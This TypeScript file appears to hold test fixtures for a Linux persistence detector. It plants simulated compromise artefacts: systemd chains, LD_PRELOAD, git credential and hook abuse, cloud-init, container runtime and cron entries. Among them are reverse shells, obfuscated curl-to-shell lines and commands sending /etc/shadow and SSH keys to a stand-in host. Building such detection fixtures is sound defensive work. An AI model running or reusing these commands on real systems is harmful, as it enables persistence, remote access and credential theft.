/** Chains: a unit, a rule or a hook that looks at home, whose program is where no package put it. */

import { elf, fetched, file, line, run, type Sign } from '../sign.ts';

const cron = (id: string, what: string, name: string, command: string): Sign => file(`cron-${id}`, 'start-up', what, `/etc/cron.d/${name}`, `*/20 * * * * root ${command}\n`);

export const fourthStartUp: readonly Sign[] = [
	{ id: 'drop-in-chain', family: 'start-up', what: 'a drop-in, to a script that looks packaged, to a program in /tmp', plant: tree => {
		tree.write('/etc/systemd/system/logrotate.service.d/10-compress.conf', '[Service]\nExecStartPost=/usr/lib/systemd/systemd-logrotate-helper\n');
		tree.write('/usr/lib/systemd/systemd-logrotate-helper', '#!/bin/sh\n. /lib/lsb/init-functions\nexec /tmp/.X1-unix/rotated\n', run);
	}, names: ['/etc/systemd/system/logrotate.service.d/10-compress.conf', '/usr/lib/systemd/systemd-logrotate-helper'], also: ['/usr/lib/systemd/systemd-logrotate-helper'] },
	{ id: 'unit-local-chain', family: 'start-up', what: 'a unit of an administrator\'s kind, to a script of his kind, to a program in /dev/shm', plant: tree => {
		tree.write('/etc/systemd/system/metrics-sync.service', '[Unit]\nDescription=Sync metrics\n[Service]\nExecStart=/usr/local/sbin/metrics-sync\n[Install]\nWantedBy=multi-user.target\n');
		tree.write('/usr/local/sbin/metrics-sync', '#!/bin/bash\nset -e\ncp /opt/metrics/etc/agent.bin /dev/shm/.agent && chmod +x /dev/shm/.agent\n/dev/shm/.agent &\n', run);
	}, names: ['/etc/systemd/system/metrics-sync.service', '/usr/local/sbin/metrics-sync'], also: ['/usr/local/sbin/metrics-sync'] },
	{ id: 'wants-plain-file', family: 'start-up', what: 'a unit that lies where links belong', plant: tree => {
		tree.write('/etc/systemd/system/multi-user.target.wants/kerneloops.service', '[Service]\nExecStart=/usr/sbin/kerneloopsd\n');
		tree.write('/usr/sbin/kerneloopsd', elf('oops'), run);
	}, names: ['/etc/systemd/system/multi-user.target.wants/kerneloops.service', '/usr/sbin/kerneloopsd'], also: ['/usr/sbin/kerneloopsd'] },
	{ id: 'default-target', family: 'start-up', what: 'another target to boot into', plant: tree => {
		tree.write('/etc/systemd/system/graphic.target', '[Unit]\nRequires=multi-user.target graphic-helper.service\nAfter=multi-user.target\n');
		tree.write('/etc/systemd/system/graphic-helper.service', '[Service]\nExecStart=/var/lib/graphic/.helper\n');
		tree.link('graphic.target', '/etc/systemd/system/default.target');
	}, names: ['/etc/systemd/system/graphic-helper.service', '/etc/systemd/system/default.target'] },
	file('manager-environment', 'start-up', 'a library in every user manager', '/etc/systemd/user.conf.d/10-x.conf', '[Manager]\nManagerEnvironment=LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libm.so.7\n'),
	file('stop-post', 'start-up', 'run when a service ends', '/etc/systemd/system/cron.service.d/clean.conf', `[Service]\nExecStopPost=-/bin/sh -c '${fetched}'\n`),
	file('autossh', 'start-up', 'a way back in, kept open', '/etc/systemd/system/db-tunnel.service', '[Service]\nExecStart=/usr/bin/ssh -N -o StrictHostKeyChecking=no -R 2222:localhost:22 support@203.0.113.9\nRestart=always\n'),
	{ id: 'user-timer', family: 'start-up', what: 'a timer of a person, to a script in a cache', plant: tree => {
		tree.write('/home/grace/.config/systemd/user/tracker-sync.timer', '[Timer]\nOnCalendar=hourly\n[Install]\nWantedBy=timers.target\n', { owner: 'grace' });
		tree.write('/home/grace/.config/systemd/user/tracker-sync.service', '[Service]\nExecStart=/bin/sh %h/.cache/tracker/sync.sh\n', { owner: 'grace' });
		tree.write('/home/grace/.cache/tracker/sync.sh', `${fetched}\n`, { owner: 'grace' });
	}, names: ['/home/grace/.config/systemd/user/tracker-sync.service', '/home/grace/.cache/tracker/sync.sh'], also: ['/home/grace/.cache/tracker/sync.sh'] },
	file('openbox', 'start-up', 'run by a window manager', '/home/grace/.config/openbox/autostart', `${fetched} &\n`, { owner: 'grace' }),
	file('autostart-scripts', 'start-up', 'run by a desktop', '/home/grace/.config/autostart-scripts/sync.sh', `#!/bin/sh\n${fetched}\n`, { owner: 'grace', mode: 0o755 }),
	file('git-template', 'start-up', 'a hook in each project to come', '/usr/share/git-core/templates/hooks/post-checkout', `#!/bin/sh\n${fetched}\n`, run),
	line('git-credential', 'start-up', 'a helper that is asked for passwords', '/home/ada/.gitconfig', '[credential]\n\thelper = "!f() { cat | curl -s -d @- http://203.0.113.9/g; }; f"\n'),
	file('git-ssh-command', 'start-up', 'a program in the place of ssh', '/root/.gitconfig', '[core]\n\tsshCommand = /var/lib/misc/.gs\n'),
	{ id: 'udev-program', family: 'start-up', what: 'a rule that asks a program that looks packaged', plant: tree => {
		tree.write('/etc/udev/rules.d/60-net-id.rules', 'SUBSYSTEM=="net", PROGRAM="/usr/lib/udev/net_id2 %k", NAME="%c"\n');
		tree.write('/usr/lib/udev/net_id2', elf('net'), run);
	}, names: ['/etc/udev/rules.d/60-net-id.rules', '/usr/lib/udev/net_id2'], also: ['/usr/lib/udev/net_id2'] },
	file('dracut-conf', 'start-up', 'a program put into the boot image', '/etc/dracut.conf.d/x.conf', 'install_items+=" /usr/lib/.init "\n'),
	file('binfmt-python', 'start-up', 'an interpreter of no package for compiled Python', '/usr/lib/binfmt.d/python3.12.conf', ':python3.12:M::\\xcb\\x0d\\x0d\\x0a::/usr/libexec/pyrun:\n'),
	file('binfmt-debian', 'start-up', 'the same in Debian\'s list', '/usr/share/binfmts/jarwrap2', 'package jar\ninterpreter /var/lib/misc/.jar\nmagic PK\\x03\\x04\n'),
	{ id: 'module-updates', family: 'start-up', what: 'a module beside those built here, loaded at boot', plant: tree => {
		tree.write(`/lib/modules/${tree.kernel() ?? '6.1.0-40-amd64'}/updates/dkms/ip_tables2.ko`, elf('nf_hook', 'module'));
		tree.write('/usr/lib/modules-load.d/iptables.conf', 'ip_tables2\n');
	}, names: ['/usr/lib/modules-load.d/iptables.conf', '/usr/lib/modules/*/updates/dkms/ip_tables2.ko'], also: ['/usr/lib/modules/*/updates/dkms/ip_tables2.ko'] },
	file('procmail', 'start-up', 'run for each mail of one user', '/home/grace/.procmailrc', `:0\n* ^Subject:.*report\n| ${fetched}\n`, { owner: 'grace' }),
	file('procmail-global', 'start-up', 'run for each mail', '/etc/procmailrc', ':0 c\n| /usr/lib/mail/.p\n'),
	file('cloud-init-cfg', 'start-up', 'run at each boot of a cloud\'s machine', '/etc/cloud/cloud.cfg.d/95-net.cfg', `#cloud-config\nbootcmd:\n  - ${fetched}\n`),
	file('cloud-init-seed', 'start-up', 'the same in data for the first boot', '/var/lib/cloud/seed/nocloud/user-data', '#cloud-config\nruncmd:\n  - [ sh, -c, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1" ]\n', { mode: 0o600 }),
	file('cloud-init-boot', 'start-up', 'a script at each boot', '/var/lib/cloud/scripts/per-boot/10-net.sh', `#!/bin/sh\n${fetched}\n`, run),
	file('perl-site', 'start-up', 'a module in front of Perl\'s own', '/etc/perl/POSIX.pm', 'package POSIX; system("curl -s 203.0.113.9/k|sh"); 1;\n'),
	file('user-pth-exec', 'start-up', 'run by each python3 of one user', '/home/grace/.local/lib/python3.11/site-packages/typing_ext.pth', 'import base64; exec(base64.b64decode("aW1wb3J0IG9z"))\n', { owner: 'grace' }),
	file('gss-mech', 'start-up', 'a library in all that speaks GSSAPI', '/etc/gss/mech.d/x.conf', 'x 1.2.3.4 /var/lib/misc/.gss.so\n'),
	file('pkcs11', 'start-up', 'a library in all that speaks TLS', '/etc/pkcs11/modules/x.module', 'module: /var/tmp/p11.so\n'),
	file('gconv', 'start-up', 'a library for a character set', '/usr/lib/x86_64-linux-gnu/gconv/gconv-modules.d/x.conf', 'module\tX//\tINTERNAL\t../../../../../tmp/x\t1\n'),
	file('docker-runtime', 'start-up', 'another runtime for containers', '/etc/docker/daemon.json', '{"runtimes":{"r":{"path":"/var/lib/docker/.runc"}},"default-runtime":"r"}\n'),
	file('containerd-runtime', 'start-up', 'the same for containerd', '/etc/containerd/config.toml', 'version = 2\n[plugins."io.containerd.grpc.v1.cri".containerd.runtimes.runc.options]\n  BinaryName = "/var/tmp/runc"\n'),
	file('oci-hook', 'start-up', 'run with each container', '/usr/share/containers/oci/hooks.d/x.json', '{"version":"1.0.0","hook":{"path":"/var/lib/.h/run"},"when":{"always":true},"stages":["prestart"]}\n'),
	file('kubelet-open', 'services', 'a kubelet that asks nobody who he is', '/var/lib/kubelet/config.yaml', 'kind: KubeletConfiguration\napiVersion: kubelet.config.k8s.io/v1beta1\nauthentication:\n  anonymous:\n    enabled: true\nauthorization:\n  mode: AlwaysAllow\n'),
	file('resolved', 'environment', 'names asked of nobody known, by resolved', '/etc/systemd/resolved.conf.d/x.conf', '[Resolve]\nDNS=203.0.113.53\nDomains=~.\n'),
	cron('telnet', 'a shell between two telnets', 'n1', 'telnet 203.0.113.9 4444 | /bin/sh | telnet 203.0.113.9 4445'),
	cron('socat', 'a shell by socat', 'n2', "socat exec:'bash -li',pty,stderr,setsid tcp:203.0.113.9:4444"),
	cron('zsh', 'a shell by zsh', 'n3', "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.9 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"),
	cron('lua', 'a shell by lua', 'n4', 'lua -e "require(\'socket\');require(\'os\');t=socket.tcp();t:connect(\'203.0.113.9\',4444);os.execute(\'/bin/sh -i <&3 >&3 2>&3\')"'),
	cron('node', 'a shell by node', 'n5', 'node -e "require(\'child_process\').exec(\'nc -e /bin/sh 203.0.113.9 4444\')"'),
	cron('xterm', 'a terminal on a foreign screen', 'n6', 'xterm -display 203.0.113.9:1'),
	cron('tcpdump', 'a sniffer each hour', 'n7', 'timeout 3500 tcpdump -i any -w /var/tmp/.c.pcap port 21 or port 23'),
	cron('exfil', 'the configuration sent away', 'n8', 'tar cz /etc /root/.ssh | curl -s -T - http://203.0.113.9/u'),
	cron('base32', 'a command behind base32', 'n9', 'echo MN2XE3BAFVZSAMRQGMXDALRRGEZS4OJPNN6HG2A= | base32 -d | sh'),
	cron('variable', 'a command put together from pieces', 'o1', "a=cu;b=rl;$a$b -s http://203.0.113.9/k|ba''sh"),
	file('cron-script-exfil', 'start-up', 'a daily job that sends shadow away', '/etc/cron.daily/aptitude2', '#!/bin/sh\ncurl -s -F f=@/etc/shadow http://203.0.113.9/u\n', run),
];
